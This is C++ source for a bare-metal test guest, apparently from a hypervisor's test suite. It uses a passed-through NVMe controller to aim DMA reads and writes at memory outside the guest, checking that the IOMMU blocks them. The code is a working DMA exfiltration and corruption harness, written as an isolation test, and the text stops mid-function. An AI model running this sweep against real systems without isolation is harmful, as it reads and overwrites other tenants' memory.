// dmaattack: a guest that owns an NVMe controller (PCI passthrough) and points its DMA
// everywhere it has no right to. With the IOMMU doing its job every such command fails
// (an error status, or no completion at all), the controller keeps working, and no other
// guest's memory changes (the canary guest watches that side).
//
// What it does, all polled, interrupts off, every wait bounded (TSC, lib/tsc.hpp):
//   1. Finds the NVMe controller (class 01:08:02) on bus 0 by 0xCF8/0xCFC (devices 0-31,
//      function 0). BAR0 (64-bit memory BAR) is kept as found; only if it reads 0 is it
//      programmed to `bar=` (default 0xD0000000). COMMAND gets memory space + bus master.
//   2. BAR0 is reached without paging when it lies below 4 GiB (the runtime runs with paging
//      off: linear = physical). Above 4 GiB it is NOT moved: the guest turns on PAE paging,
//      identity maps 0-4 GiB with 2 MiB pages and maps the BAR (uncached) at the 4 MiB
//      window at `bar=` instead (map_bar() below).
//   3. A minimal NVMe 1.4 driver: CC.EN=0 and CSTS.RDY=0, admin SQ/CQ (16 entries) in its
//      own RAM, CC.EN=1 and CSTS.RDY=1 (waits bounded by CAP.TO, at least 500 ms, at most
//      60 s), Identify Controller into its own RAM (`dmaattack: identify ok model="..."`),
//      Identify Namespace 1 (LBA size), one I/O CQ/SQ pair (16 entries). Writes a pattern to
//      LBA 0..7 (4 KiB) and a marker to the 4 KiB at LBA 8, reads them back and compares
//      (`dmaattack: own-ram io ok`).
//   4. The attack: every target T = sweep_from + k * step in [sweep_from, sweep_to) whose
//      first 12 KiB are not in its own RAM (the Multiboot map's RAM ranges, cut at `own_top=`
//      when given), four commands:
//        (a)  Identify Controller with PRP1 = T (the device writes 4 KiB at T),
//        (b)  Write of 4 KiB (8 blocks of 512 B) to LBA 8 from PRP1 = T (the device reads T:
//             exfiltration),
//        (c)  Read of 4 KiB from LBA 0 into PRP1 = T (the device writes T),
//        (b') Write of 4 KiB to LBA 8 from T again;
//      and once, at the first target, (d) a Write of 12 KiB to LBA 16 with PRP1 in its own
//      RAM and PRP2 = that target + 4 KiB: a PRP list outside its RAM (the device reads it).
//      Each command completes with a status or times out (`timeout_ms=`, default 100); a
//      timeout or CSTS.CFS resets the controller (disable, enable, queues again) and the sweep
//      goes on. `blocked` = a non-zero status or a timeout, `completed` = status 0.
//      The echo, which trusts no status: after (b) and after (b') LBA 8 is read into its own
//      RAM; holding the Identify data (after (b)) or LBA 0's pattern (after (b')) means the
//      device really wrote T and read it back (`dmaattack: echo T=...`). Needed because a
//      controller may complete a command whose DMA failed with status 0: QEMU 7.2's emulated
//      NVMe does so for DMA to unassigned addresses (only a PRP list it cannot read gets a
//      Data Transfer Error), see tests/guests/README.md.
//      Interrupts: a write to 0xFEEx_xxxx is an MSI request, not memory (under VT-d only
//      interrupt remapping stops it). NMIs taken during the sweep are counted and resumed,
//      the local APIC's IRR is compared before and after (interrupts stay off, so fixed
//      ones stay pending): `dmaattack: interrupts raised by the sweep: nmi=N fixed=F`; any
//      is a breach. An MSI with delivery mode INIT or SMI would end the guest.
//   5. `dmaattack: controller still works`: after the sweep, an Identify into its own RAM
//      succeeds (after one reset if the first try fails) and LBA 0..7 still read back as
//      written.
//
// cmdline (numbers decimal or 0x hex, K/M/G suffixes):
//   sweep_from=A  first target (default: the end of its RAM below 4 GiB, rounded up to step)
//   sweep_to=A    end of the sweep, exclusive (default 4G); may exceed 4 GiB
//   step=N        distance between targets (default 2M; a multiple of 4 KiB)
//   own_top=A     RAM of the map at or above A is not its own (bare runs: QEMU's RAM stands
//                 in for another guest's memory)
//   bar=A         where BAR0 goes if unassigned, and the virtual window for a BAR above 4 GiB
//                 (default 0xD0000000)
//   timeout_ms=N  per-command completion wait (default 100)
//   nsid=N        namespace for I/O (default 1)
//   judge=echo    pass on echoes alone: completions with status 0 are reported, not failed
//                 (for controllers that report success for failed DMA; default: both count)
//   expect_breach=1  bare runs without an IOMMU: every command must complete, every echo come
//                 back, and the guest checks that each DMA really happened by reading the
//                 targets itself (the model string at T+24 after (a), LBA 8 = T's page after
//                 (b) and (b'), T = LBA 0's pattern after (c), LBA 16.. = the pages the list
//                 names after (d)); needs targets below 4 GiB in RAM the guest does not use
//                 (it writes them)
//   verbose       one line per attack command
//   move_bar=A    test of the above-4-GiB path: BAR0 is reprogrammed to A before anything else
//   stall=K       test of the recovery path: bus mastering is off while the K-th target's
//                 Identify is sent, so it times out (or the controller reports CFS), the
//                 controller is reset and the sweep goes on (that command counts as blocked)
// Without expect_breach the guest never touches a target with the CPU (under Keel, an access
// outside its RAM could stop it).
//
// Output (last lines):
//   dmaattack: commands=M (identify, write from, read into, write from per target; 1 PRP list)
//   dmaattack: status sct=0xS sc=0xCC [dnr] xN | dmaattack: status timeout-or-cfs xN  (per kind)
//   dmaattack: targets=N blocked=B completed=C timeouts=T     (B, C, T count commands; T
//                                                   counts CSTS.CFS too: both end in a reset)
//   dmaattack: completed T=0x... cmd=identify|write-from|read-into|prp-list  (first 8, if C>0)
//   dmaattack: interrupts raised by the sweep: nmi=N fixed=F
//   dmaattack: echoes=E
//   dmaattack: controller still works
//   dmaattack: PASS (...) | dmaattack: FAIL <why>
// Exit: 0 pass. 1 no NVMe controller on bus 0, 2 BAR0 unusable, 3 bring-up failed (ready
// timeout, CFS), 4 Identify into own RAM failed, 5 namespace/I/O queues unusable, 6 own-RAM
// I/O failed, 7 breach (an echo, an interrupt, or C > 0 unless judge=echo), 8 controller broken after the
// sweep (or a reset failed in it, or own-RAM I/O failed during it), 9 expect_breach and not
// every command completed, landed and echoed, 10 bad layout/cmdline.
//
// Own memory used: its image (1 MiB..), and 64 KiB at 2 MiB (queues, Identify data, buffers):
// the guest needs 4 MiB of RAM.
#include "lib/guest.hpp"
#include "lib/tsc.hpp"

extern "C" const char guest_name[] = "dmaattack";

namespace {

// ---- own memory ---------------------------------------------------------------
constexpr u32 MEM = 0x200000;
constexpr u32 ASQ = MEM, ACQ = MEM + 0x1000, IOSQ = MEM + 0x2000, IOCQ = MEM + 0x3000;
constexpr u32 IDBUF = MEM + 0x4000;    // Identify Controller into own RAM
constexpr u32 NSBUF = MEM + 0x5000;    // Identify Namespace
constexpr u32 DATA = MEM + 0x6000;     // 3 pages: what the own-RAM writes send
constexpr u32 CHECK = MEM + 0x9000;    // 3 pages: what reads bring back
constexpr u32 MARK = MEM + 0xc000;     // LBA 8's marker, written again after an echo
constexpr u32 MEM_END = MEM + 0x10000;
constexpr u16 QN = 16;                 // entries per queue
constexpr u64 PAGE = 4096;
constexpr u64 LBA_PATTERN = 0, LBA_EXFIL = 8, LBA_LIST = 16;   // in 512-byte units

u32 rd32p(u32 a) { return *reinterpret_cast<volatile u32*>(a); }
void wr32p(u32 a, u32 v) { *reinterpret_cast<volatile u32*>(a) = v; }

u32 pattern(u32 word) { u32 x = word * 0x9e3779b1u ^ 0xd1a5a77c; x ^= x >> 15; return x * 0x2c1b3c6du; }
u32 marker(u32 word) { return 0x4b45454cu ^ word * 0x01000193u; }   // "KEEL"

// ---- own RAM per the Multiboot map --------------------------------------------
u64 own_top = ~0ull;

bool overlaps_own_ram(u64 base, u64 len)
{
    for (u32 i = 0; i < boot.mmap_count; ++i) {
        const MemRegion& r = boot.mmap[i];
        if (r.type != 1 || !r.length) continue;
        u64 b = r.base, e = r.base + r.length;
        if (e > own_top) e = own_top;
        if (b < e && base < e && b < base + len) return true;
    }
    return false;
}

bool inside_own_ram(u64 base, u64 len)
{
    for (u32 i = 0; i < boot.mmap_count; ++i) {
        const MemRegion& r = boot.mmap[i];
        if (r.type != 1) continue;
        u64 e = r.base + r.length;
        if (e > own_top) e = own_top;
        if (base >= r.base && base + len <= e) return true;
    }
    return false;
}

u64 own_ram_end_below_4g()
{
    u64 end = 0;
    for (u32 i = 0; i < boot.mmap_count; ++i) {
        const MemRegion& r = boot.mmap[i];
        if (r.type != 1 || r.base >= (1ull << 32)) continue;
        u64 e = r.base + r.length;
        if (e > own_top) e = own_top;
        if (e > (1ull << 32)) e = 1ull << 32;
        if (e > end) end = e;
    }
    return end;
}

// ---- PCI configuration by 0xCF8/0xCFC, bus 0 function 0 -------------------------
u32 cfg_addr(u32 dev, u32 off) { return 0x80000000u | dev << 11 | (off & 0xfc); }
u32 cfg_rd32(u32 dev, u32 off) { outl(0xcf8, cfg_addr(dev, off)); return inl(0xcfc); }
void cfg_wr32(u32 dev, u32 off, u32 v) { outl(0xcf8, cfg_addr(dev, off)); outl(0xcfc, v); }
u16 cfg_rd16(u32 dev, u32 off) { outl(0xcf8, cfg_addr(dev, off)); return inw(u16(0xcfc + (off & 2))); }
void cfg_wr16(u32 dev, u32 off, u16 v) { outl(0xcf8, cfg_addr(dev, off)); outw(u16(0xcfc + (off & 2)), v); }

// ---- BAR0 above 4 GiB: PAE paging, identity below 4 GiB, the BAR at a window ------
alignas(32) u64 pdpt[4];
alignas(4096) u64 pd[4][512];

u32 map_bar(u64 phys, u32 window)
{
    for (u32 i = 0; i < 2048; ++i) pd[i / 512][i % 512] = u64(i) << 21 | 0x83;   // P RW PS
    const u32 slot = window >> 21;
    const u64 base = phys & ~0x1fffffull;
    for (u32 k = 0; k < 2 && slot + k < 2048; ++k)
        pd[(slot + k) / 512][(slot + k) % 512] = (base + (u64(k) << 21)) | 0x9b;   // + PWT PCD
    for (u32 i = 0; i < 4; ++i) pdpt[i] = uptr(&pd[i][0]) | 1;
    u32 cr;
    asm volatile("mov %%cr4, %0" : "=r"(cr));
    asm volatile("mov %0, %%cr4" : : "r"(cr | 0x20) : "memory");            // PAE
    asm volatile("mov %0, %%cr3" : : "r"(uptr(&pdpt[0])) : "memory");
    asm volatile("mov %%cr0, %0" : "=r"(cr));
    asm volatile("mov %0, %%cr0" : : "r"(cr | 0x80000000u) : "memory");     // PG
    return (window & ~0x1fffffu) + u32(phys & 0x1fffff);
}

// ---- the controller -----------------------------------------------------------
u64 khz;
u32 regs;          // BAR0 as the CPU reaches it
u32 dstrd;
u32 ready_ms;
u32 timeout_ms;
u32 nsid;
u32 lba_shift = 9;
u64 nsze;
u32 max_bytes;     // MDTS in bytes, 0 = no limit
bool verbose;
char model[41];

u32 r32(u32 off) { return mmio_rd<u32>(regs + off); }
void w32(u32 off, u32 v) { mmio_wr<u32>(regs + off, v); }
u64 r64(u32 off) { const u32 lo = r32(off); return u64(r32(off + 4)) << 32 | lo; }
void w64(u32 off, u64 v) { w32(off, u32(v)); w32(off + 4, u32(v >> 32)); }

constexpr u32 CAP = 0x00, CC = 0x14, CSTS = 0x1c, AQA = 0x24, ASQR = 0x28, ACQR = 0x30;
constexpr u32 CC_EN = 1, CSTS_RDY = 1, CSTS_CFS = 2;

struct Queue {
    u32 sq, cq;
    u16 qid, tail, head;
    u32 phase;
    void reset() { tail = head = 0; phase = 1; memset(reinterpret_cast<void*>(sq), 0, 64 * QN);
                   memset(reinterpret_cast<void*>(cq), 0, 16 * QN); }
};
Queue admin{ASQ, ACQ, 0, 0, 0, 1}, io{IOSQ, IOCQ, 1, 0, 0, 1};
u16 next_cid = 1;

struct Sqe { u32 cdw0, nsid, rsvd[2]; u64 mptr, prp1, prp2; u32 cdw10, cdw11, cdw12, cdw13, cdw14, cdw15; };
static_assert(sizeof(Sqe) == 64);

enum class Outcome { Done, Timeout, Fatal };
struct Result { Outcome how; u16 status; };   // status: SC 7:0, SCT 10:8, CRD, M, DNR (CQE DW3 31:17)

bool wait_ready(bool want)
{
    Deadline d(khz, ready_ms);
    for (;;) {
        const u32 s = r32(CSTS);
        if (s == 0xffffffffu) return false;                  // the function is gone
        if (want && (s & CSTS_CFS)) return false;
        if (bool(s & CSTS_RDY) == want) return true;
        if (d.passed()) return false;
    }
}

bool disable()
{
    const u32 cc = r32(CC);
    if ((cc & CC_EN) && !(r32(CSTS) & CSTS_RDY)) wait_ready(true);   // let an enable finish first
    w32(CC, cc & ~CC_EN);
    return wait_ready(false);
}

Result submit(Queue& q, Sqe e)
{
    e.cdw0 = (e.cdw0 & 0xffff) | u32(next_cid) << 16;
    const u16 cid = next_cid;
    next_cid = u16(next_cid == 0xfffe ? 1 : next_cid + 1);
    memcpy(reinterpret_cast<void*>(q.sq + q.tail * 64u), &e, sizeof e);
    q.tail = u16((q.tail + 1) % QN);
    asm volatile("" ::: "memory");
    w32(0x1000 + (2u * q.qid) * (4u << dstrd), q.tail);
    Deadline d(khz, timeout_ms);
    for (u32 n = 0;; ++n) {
        const u32 a = q.cq + q.head * 16u;
        const u32 dw3 = rd32p(a + 12);
        if ((dw3 >> 16 & 1) == q.phase) {
            q.head = u16((q.head + 1) % QN);
            if (q.head == 0) q.phase ^= 1;
            w32(0x1000 + (2u * q.qid + 1) * (4u << dstrd), q.head);
            if ((dw3 & 0xffff) != cid) {
                // A late completion of a command given up on earlier (its wait timed out):
                // consumed and dropped, and the wait for this one goes on.
                printf("dmaattack: late completion for cid %u dropped (waiting for %u)\n", dw3 & 0xffff, cid);
                continue;
            }
            return {Outcome::Done, u16(dw3 >> 17)};
        }
        if ((n & 0xff) == 0 && (r32(CSTS) & CSTS_CFS)) return {Outcome::Fatal, 0};
        if (d.passed()) return {Outcome::Timeout, 0};
    }
}

bool ok(Result r) { return r.how == Outcome::Done && r.status == 0; }
u32 sct(u16 st) { return st >> 8 & 7; }
u32 sc(u16 st) { return st & 0xff; }

// "sct=0xS sc=0xCC" (+ " dnr"), "timeout", or the fatal status. One static buffer per call
// site slot: a printf line may hold up to 4 of them.
const char* describe(Result r)
{
    static char bufs[4][32];
    static u32 turn;
    if (r.how == Outcome::Timeout) return "timeout";
    if (r.how == Outcome::Fatal) return "controller fatal status (CSTS.CFS)";
    char* out = bufs[turn++ % 4];
    char* o = out;
    const char* hex = "0123456789abcdef";
    auto put = [&](const char* s) { while (*s) *o++ = *s++; };
    put("sct=0x");
    *o++ = hex[sct(r.status)];
    put(" sc=0x");
    *o++ = hex[sc(r.status) >> 4];
    *o++ = hex[sc(r.status) & 0xf];
    if (r.status >> 14 & 1) put(" dnr");
    *o = 0;
    return out;
}

Sqe identify_cmd(u64 prp1, u32 cns, u32 ns)
{
    Sqe e{};
    e.cdw0 = 0x06;
    e.nsid = ns;
    e.prp1 = prp1;
    e.cdw10 = cns;
    return e;
}

Sqe rw_cmd(u8 opcode, u64 lba512, u32 bytes, u64 prp1, u64 prp2)
{
    Sqe e{};
    e.cdw0 = opcode;
    e.nsid = nsid;
    const u64 slba = lba512 >> (lba_shift - 9);
    e.prp1 = prp1;
    e.prp2 = prp2;
    e.cdw10 = u32(slba);
    e.cdw11 = u32(slba >> 32);
    e.cdw12 = (bytes >> lba_shift) - 1;
    return e;
}

// Reads `pages` 4 KiB pages from lba512 into CHECK, one command per page (no PRP list needed).
bool read_own(u64 lba512, u32 pages)
{
    memset(reinterpret_cast<void*>(CHECK), 0, pages * PAGE);
    for (u32 k = 0; k < pages; ++k)
        if (!ok(submit(io, rw_cmd(0x02, lba512 + 8 * k, 4096, CHECK + k * PAGE, 0)))) return false;
    return true;
}

// Disable, admin queues, enable; the I/O pair again when `with_io`.
bool bring_up(bool with_io)
{
    if (!disable()) {
        printf("dmaattack: CSTS.RDY did not clear within %u ms (CSTS=0x%x)\n", ready_ms, r32(CSTS));
        return false;
    }
    admin.reset();
    io.reset();
    w32(AQA, u32(QN - 1) << 16 | (QN - 1));
    w64(ASQR, ASQ);
    w64(ACQR, ACQ);
    w32(CC, 4u << 20 | 6u << 16 | CC_EN);          // IOCQES 16 B, IOSQES 64 B, 4 KiB pages, NVM, RR
    if (!wait_ready(true)) {
        printf("dmaattack: CSTS.RDY did not set within %u ms (CSTS=0x%x)\n", ready_ms, r32(CSTS));
        return false;
    }
    if (!with_io) return true;
    Sqe cq{};
    cq.cdw0 = 0x05;
    cq.prp1 = IOCQ;
    cq.cdw10 = u32(QN - 1) << 16 | io.qid;
    cq.cdw11 = 1;                                  // physically contiguous, no interrupts
    Result r = submit(admin, cq);
    if (!ok(r)) {
        printf("dmaattack: Create I/O CQ: %s\n", describe(r));
        return false;
    }
    Sqe sq{};
    sq.cdw0 = 0x01;
    sq.prp1 = IOSQ;
    sq.cdw10 = u32(QN - 1) << 16 | io.qid;
    sq.cdw11 = u32(io.qid) << 16 | 1;              // CQ 1, physically contiguous
    r = submit(admin, sq);
    if (!ok(r)) {
        printf("dmaattack: Create I/O SQ: %s\n", describe(r));
        return false;
    }
    return true;
}

// ---- the sweep's bookkeeping ----------------------------------------------------
const char* const kCmdName[] = {"identify", "write-from", "read-into", "prp-list"};
struct StatusCount { bool timeout; u16 status; u32 n; };
StatusCount statuses[8];
u32 status_kinds, status_other;
u32 commands, blocked, completed, timeouts;
u64 first_completed[8];
u32 first_completed_cmd[8];

void record(u64 target, u32 cmd, Result r)
{
    ++commands;
    if (verbose) printf("dmaattack: T=0x%llx %s: %s\n", target, kCmdName[cmd], describe(r));
    const bool to = r.how != Outcome::Done;
    if (to) ++timeouts;
    if (ok(r)) {
        if (completed < 8) first_completed[completed] = target, first_completed_cmd[completed] = cmd;
        ++completed;
    } else {
        ++blocked;
    }
    for (u32 i = 0; i < status_kinds; ++i)
        if (statuses[i].timeout == to && (to || statuses[i].status == r.status)) { ++statuses[i].n; return; }
    if (status_kinds < 8) statuses[status_kinds++] = {to, to ? u16(0) : r.status, 1};
    else ++status_other;
}

// Interrupts a DMA raised: a write to 0xFEEx_xxxx is an MSI, not memory. NMIs are counted and
// resumed (the runtime would stop at them); fixed interrupts stay pending (IF=0) and show in
// the local APIC's IRR, compared before and after the sweep. INIT or SMI cannot be survived.
volatile u32 nmis;
bool count_nmi(TrapFrame* f)
{
    if (f->vector != 2) return false;
    nmis = nmis + 1;
    return true;
}
constexpr u32 LAPIC = 0xfee00000;
void read_irr(u32 irr[8]) { for (u32 i = 0; i < 8; ++i) irr[i] = mmio_rd<u32>(LAPIC + 0x200 + 0x10 * i); }

}  // namespace

u32 guest_main()
{
    verbose = cmdline_flag("verbose");
    own_top = cmdline_u64("own_top", ~0ull);
    timeout_ms = u32(cmdline_u64("timeout_ms", 100));
    nsid = u32(cmdline_u64("nsid", 1));
    const bool expect_breach = cmdline_flag("expect_breach");
    const char* judge = "";
    usize judge_len = 0;
    const bool judge_by_echo = cmdline_value("judge", &judge, &judge_len) && judge_len == 4 && !memcmp(judge, "echo", 4);
    const u64 step = cmdline_u64("step", 2ull << 20);
    const u32 window = u32(cmdline_u64("bar", 0xD0000000));
    if (!step || step % PAGE || !timeout_ms) {
        printf("dmaattack: FAIL bad cmdline: step=0x%llx timeout_ms=%u\n", step, timeout_ms);
        return 10;
    }
    if (!boot.has_mmap || !inside_own_ram(MEM, MEM_END - MEM)) {
        printf("dmaattack: FAIL its buffers 0x%x-0x%x are not in its RAM (it needs 4 MiB)\n", MEM, MEM_END - 1);
        return 10;
    }
    const char* src = "";
    khz = tsc_khz(&src);
    if (!khz) {
        printf("dmaattack: FAIL no TSC rate (cpuid 0x40000010, 0x15 or the PIT)\n");
        return 10;
    }
    printf("dmaattack: tsc %llu kHz from %s, timeout_ms=%u\n", khz, src, timeout_ms);

    // 1. The controller on bus 0.
    u32 dev = 32;
    for (u32 d = 0; d < 32; ++d) {
        const u32 id = cfg_rd32(d, 0);
        if ((id & 0xffff) == 0xffff || (id & 0xffff) == 0) continue;
        if (cfg_rd32(d, 8) >> 8 == 0x010802) { dev = d; break; }
    }
    if (dev == 32) {
        printf("dmaattack: FAIL no NVMe controller (class 01:08:02) on bus 0\n");
        return 1;
    }
    const u32 id = cfg_rd32(dev, 0);
    const u32 lo = cfg_rd32(dev, 0x10);
    if (lo & 1) {
        printf("dmaattack: FAIL BAR0 is an I/O BAR (0x%x)\n", lo);
        return 2;
    }
    const bool bar64 = (lo >> 1 & 3) == 2;
    u64 bar = (bar64 ? u64(cfg_rd32(dev, 0x14)) << 32 : 0) | (lo & ~0xfu);
    printf("dmaattack: nvme at 00:%02x.0 id %04x:%04x BAR0 0x%llx (%s-bit)\n", dev, id & 0xffff, id >> 16, bar,
           bar64 ? "64" : "32");
    // move_bar=A (tests of the above-4-GiB path): BAR0 is moved there first, memory decoding off.
    if (const u64 move = cmdline_u64("move_bar", 0)) {
        cfg_wr16(dev, 0x04, u16(cfg_rd16(dev, 0x04) & ~0x2));
        cfg_wr32(dev, 0x10, u32(move));
        if (bar64) cfg_wr32(dev, 0x14, u32(move >> 32));
        bar = (bar64 ? u64(cfg_rd32(dev, 0x14)) << 32 : 0) | (cfg_rd32(dev, 0x10) & ~0xfu);
        printf("dmaattack: move_bar: BAR0 reads 0x%llx\n", bar);
    }
    if (!bar) {
        cfg_wr32(dev, 0x10, window);
        if (bar64) cfg_wr32(dev, 0x14, 0);
        bar = (bar64 ? u64(cfg_rd32(dev, 0x14)) << 32 : 0) | (cfg_rd32(dev, 0x10) & ~0xfu);
        printf("dmaattack: BAR0 was unassigned: programmed 0x%x, reads 0x%llx\n", window, bar);
        if (bar != window) {
            printf("dmaattack: FAIL BAR0 did not take 0x%x\n", window);
            return 2;
        }
    }
    cfg_wr16(dev, 0x04, u16(cfg_rd16(dev, 0x04) | 0x6));          // memory space, bus master
    const u16 command = cfg_rd16(dev, 0x04);
    if ((command & 0x6) != 0x6) printf("dmaattack: COMMAND reads 0x%x: memory space/bus master not both set\n", command);
    if (bar + 0x4000 <= (1ull << 32)) {
        regs = u32(bar);
    } else {
        if (!(cpuid(1).edx >> 6 & 1)) {
            printf("dmaattack: FAIL BAR0 0x%llx is above 4 GiB and the CPU has no PAE\n", bar);
            return 2;
        }
        if (overlaps_own_ram(window & ~0x1fffffu, 4u << 20)) {
            printf("dmaattack: FAIL the window for BAR0 at 0x%x is in its RAM (bar=)\n", window);
            return 2;
        }
        regs = map_bar(bar, window);
        printf("dmaattack: BAR0 above 4 GiB: PAE paging on, mapped at 0x%x\n", regs);
    }

    // 2. Bring-up.
    const u64 cap = r64(CAP);
    if (cap == ~0ull) {
        printf("dmaattack: FAIL CAP reads all ones\n");
        return 2;
    }
    dstrd = u32(cap >> 32 & 0xf);
    ready_ms = u32(cap >> 24 & 0xff) * 500;
    if (ready_ms < 500) ready_ms = 500;
    if (ready_ms > 60000) ready_ms = 60000;
    printf("dmaattack: CAP=0x%llx VS=0x%x mqes=%u dstrd=%u ready timeout %u ms\n", cap, r32(0x08),
           u32(cap & 0xffff) + 1, dstrd, ready_ms);
    if ((cap & 0xffff) + 1 < QN || !(cap >> 37 & 1) || (cap >> 48 & 0xf) != 0) {
        printf("dmaattack: FAIL controller cannot do %u-entry queues, the NVM set or 4 KiB pages\n", QN);
        return 3;
    }
    if (!bring_up(false)) {
        printf("dmaattack: FAIL bring-up\n");
        return 3;
    }
    memset(reinterpret_cast<void*>(IDBUF), 0, PAGE);
    Result r = submit(admin, identify_cmd(IDBUF, 1, 0));
    if (!ok(r)) {
        printf("dmaattack: FAIL Identify Controller into own RAM: %s\n", describe(r));
        return 4;
    }
    memcpy(model, reinterpret_cast<const void*>(IDBUF + 24), 40);
    for (i32 i = 39; i >= 0 && (model[i] == ' ' || model[i] == 0); --i) model[i] = 0;
    const u32 mdts = reinterpret_cast<const volatile u8*>(IDBUF)[77];
    max_bytes = mdts ? u32(PAGE << (mdts > 20 ? 20 : mdts)) : 0;
    printf("dmaattack: identify ok model=\"%s\"\n", model);

    memset(reinterpret_cast<void*>(NSBUF), 0, PAGE);
    r = submit(admin, identify_cmd(NSBUF, 0, nsid));
    if (!ok(r)) {
        printf("dmaattack: FAIL Identify Namespace %u: %s\n", nsid, describe(r));
        return 5;
    }
    nsze = *reinterpret_cast<const volatile u64*>(NSBUF);
    const u32 flbas = reinterpret_cast<const volatile u8*>(NSBUF)[26] & 0xf;
    lba_shift = reinterpret_cast<const volatile u8*>(NSBUF + 128 + 4 * flbas)[2];
    printf("dmaattack: namespace %u: %llu blocks of %u bytes, mdts %u bytes\n", nsid, nsze, 1u << lba_shift, max_bytes);
    if (lba_shift < 9 || lba_shift > 12 || (nsze << lba_shift) < 64 * 1024) {
        printf("dmaattack: FAIL namespace unusable (needs 512 B..4 KiB blocks and 64 KiB)\n");
        return 5;
    }
    if (!bring_up(true)) {
        printf("dmaattack: FAIL I/O queues\n");
        return 5;
    }

    // 3. Own-RAM I/O: pattern at LBA 0..7, marker at LBA 8, read back.
    for (u32 w = 0; w < 1024; ++w) wr32p(DATA + 4 * w, pattern(w));
    for (u32 w = 0; w < 1024; ++w) wr32p(DATA + 0x1000 + 4 * w, marker(w));
    Result wp = submit(io, rw_cmd(0x01, LBA_PATTERN, 4096, DATA, 0));
    Result wm = submit(io, rw_cmd(0x01, LBA_EXFIL, 4096, DATA + 0x1000, 0));
    memset(reinterpret_cast<void*>(CHECK), 0, 2 * PAGE);
    Result rd = submit(io, rw_cmd(0x02, LBA_PATTERN, 8192, CHECK, CHECK + 0x1000));
    if (!ok(wp) || !ok(wm) || !ok(rd) || memcmp(reinterpret_cast<void*>(CHECK), reinterpret_cast<void*>(DATA), 8192)) {
        printf("dmaattack: FAIL own-ram io: write %s, write %s, read %s, %s\n", describe(wp), describe(wm),
               describe(rd), ok(rd) ? "data differs" : "");
        return 6;
    }
    printf("dmaattack: own-ram io ok\n");

    // 4. The sweep.
    u64 from = cmdline_u64("sweep_from", 0);
    if (!from) from = (own_ram_end_below_4g() + step - 1) / step * step;
    const u64 to = cmdline_u64("sweep_to", 4ull << 30);
    u32 targets = 0;
    for (u64 t = from; t < to; t += step)
        if (!overlaps_own_ram(t, 3 * PAGE)) ++targets;
    printf("dmaattack: sweep 0x%llx-0x%llx step 0x%llx: %u targets outside its RAM%s\n", from, to, step, targets,
           expect_breach ? " (expect_breach: each must land)" : "");
    if (expect_breach && (to > (1ull << 32) || from < MEM_END)) {
        printf("dmaattack: FAIL expect_breach needs targets between 0x%x and 4 GiB\n", MEM_END);
        return 10;
    }
    if (!targets) {
        printf("dmaattack: FAIL no target in the sweep\n");
        return 10;
    }
    u32 irr_before[8], irr_after[8];
    read_irr(irr_before);
    trap_hook = count_nmi;
    u32 landed = 0, to_land = 0, done = 0, echoes = 0, own_failures = 0;
    bool lost = false, list_done = false;
    auto after = [&](Result res) -> bool {           // false: the controller could not be reset
        if (res.how == Outcome::Done) return true;
        if (bring_up(true)) return true;
        lost = true;
        return false;
    };
    // The echo: LBA 8 read back into its own RAM holds what (a) or (c) was to put at T, so the
    // device wrote T and then read it back: a breach whatever the completions said. LBA 8 gets
    // its marker again after an echo, so a later blocked write cannot look like one.
    auto echo = [&](u64 t, const char* what, auto holds) {
        if (!read_own(LBA_EXFIL, 1)) {
            ++own_failures;
            return;
        }
        if (!holds()) return;
        if (echoes < 8) printf("dmaattack: echo T=0x%llx: %s\n", t, what);
        ++echoes;
        for (u32 w = 0; w < 1024; ++w) wr32p(MARK + 4 * w, marker(w));
        if (!ok(submit(io, rw_cmd(0x01, LBA_EXFIL, 4096, MARK, 0)))) ++own_failures;
    };
    const u64 stall = cmdline_u64("stall", 0);
    u32 index = 0;
    for (u64 t = from; t < to && !lost; t += step) {
        if (overlaps_own_ram(t, 3 * PAGE)) continue;
        const u32 tp = u32(t);                            // touched only with expect_breach (< 4 GiB)
        // stall=K: the K-th target's Identify is sent with bus mastering off, so that it
        // cannot complete (a test of the timeout and reset path); mastering is back before
        // the reset.
        const bool stalled = ++index == stall;
        if (stalled) cfg_wr16(dev, 0x04, u16(cfg_rd16(dev, 0x04) & ~0x4));
        // (a) the device writes 4 KiB at T.
        if (expect_breach) memset(reinterpret_cast<void*>(tp), 0x5a, PAGE);
        const Result a = submit(admin, identify_cmd(t, 1, 0));
        if (stalled) {
            cfg_wr16(dev, 0x04, u16(cfg_rd16(dev, 0x04) | 0x4));
            printf("dmaattack: stall at T=0x%llx: %s\n", t, describe(a));
        }
        record(t, 0, a);
        ++to_land;
        if (expect_breach && ok(a) && !memcmp(reinterpret_cast<void*>(tp + 24), reinterpret_cast<void*>(IDBUF + 24), 40))
            ++landed;
        if (!after(a)) break;
        // (b) the device reads 4 KiB at T onto the disk (LBA 8).
        const Result b = submit(io, rw_cmd(0x01, LBA_EXFIL, 4096, t, 0));
        record(t, 1, b);
        ++to_land;
        if (!after(b)) break;
        echo(t, "its Identify data came back from T", [] {
            return !memcmp(reinterpret_cast<void*>(CHECK + 24), reinterpret_cast<void*>(IDBUF + 24), 40);
        });
        if (expect_breach && ok(b) && !memcmp(reinterpret_cast<void*>(CHECK), reinterpret_cast<void*>(tp), PAGE))
            ++landed;
        // (c) the device writes LBA 0 (the pattern) at T.
        if (expect_breach) memset(reinterpret_cast<void*>(tp), 0x5a, PAGE);
        const Result c = submit(io, rw_cmd(0x02, LBA_PATTERN, 4096, t, 0));
        record(t, 2, c);
        ++to_land;
        if (expect_breach && ok(c) && !memcmp(reinterpret_cast<void*>(tp), reinterpret_cast<void*>(DATA), PAGE)) ++landed;
        if (!after(c)) break;
        // (b') the device reads T onto the disk again: the echo of (c).
        const Result b2 = submit(io, rw_cmd(0x01, LBA_EXFIL, 4096, t, 0));
        record(t, 1, b2);
        ++to_land;
        if (!after(b2)) break;
        echo(t, "LBA 0's pattern came back from T", [] {
            return !memcmp(reinterpret_cast<void*>(CHECK), reinterpret_cast<void*>(DATA), PAGE);
        });
        if (expect_breach && ok(b2) && !memcmp(reinterpret_cast<void*>(CHECK), reinterpret_cast<void*>(tp), PAGE))
            ++landed;
        // (d) once: a 12 KiB write to LBA 16 whose PRP2 is a PRP list at T + 4 KiB.
        if (!list_done) {
            list_done = true;
            if (max_bytes && max_bytes < 3 * PAGE) {
                printf("dmaattack: PRP list case skipped: MDTS allows %u bytes\n", max_bytes);
            } else {
                for (u32 w = 0; w < 3 * 1024; ++w) wr32p(DATA + 4 * w, pattern(w + 0x10000));
                if (expect_breach) {                      // a well-formed list: DATA's pages 1 and 2
                    memset(reinterpret_cast<void*>(tp + PAGE), 0, PAGE);
